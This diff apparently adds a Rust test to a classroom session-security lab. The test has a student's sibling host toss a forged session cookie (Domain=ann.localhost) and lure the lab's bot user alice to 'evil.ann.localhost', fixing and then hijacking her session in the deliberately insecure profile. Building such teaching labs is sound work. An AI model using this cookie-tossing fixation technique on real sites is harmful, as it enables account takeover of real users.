@@ -149,3 +149,46 @@ async fn a_guestbook_payload_of_the_students_own_steals_the_note_from_insecure_o
         "hardened: nothing reached the collector, nothing solved"
     );
 }
+
+/// Cookie tossing in real Chromium: the student's sibling host sets
+/// `Domain=NAME.localhost`, which Chromium accepts because `NAME.localhost`
+/// is a registrable domain (docs/classroom.md, "Host names"), and the app
+/// adopts the tossed ID at alice's login.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_cookie_tossed_from_the_sibling_host_fixes_alices_session_in_insecure() {
+    if chromium_missing() {
+        return;
+    }
+    let class = class(ProfileName::Insecure, BotBrowser::Chromium).await;
+    let student = Student::sign_in(&class, "ann").await;
+    let invented =
+        sessionlab_attack::scenarios::hijack_predict::encode_id(rand::random::<i64>().into());
+    let saved = student
+        .hub_post(
+            "/lab/page",
+            &[
+                ("html", "<!DOCTYPE html><p>Nothing to see.</p>"),
+                (
+                    "set_cookie",
+                    &format!("sid={invented}; Domain=ann.localhost; Path=/"),
+                ),
+            ],
+        )
+        .await;
+    assert_eq!(saved.status(), StatusCode::SEE_OTHER);
+    student
+        .message_alice(&format!("http://evil.ann.localhost:{}/", student.port))
+        .await;
+    student.send_alice(true).await;
+    let (_, body, _) = student
+        .app_get("/account", Some(&format!("sid={invented}")))
+        .await;
+    let page = student.hub_get("/lab").await;
+    assert!(page.contains("(chromium browser)"), "{page}");
+    assert!(
+        body.contains(&note_of(&class, "ann")),
+        "the tossed ID opens alice's account: {page}"
+    );
+    assert!(student.solved("fixation-cookie").await);
+    class.shutdown().await;
+}
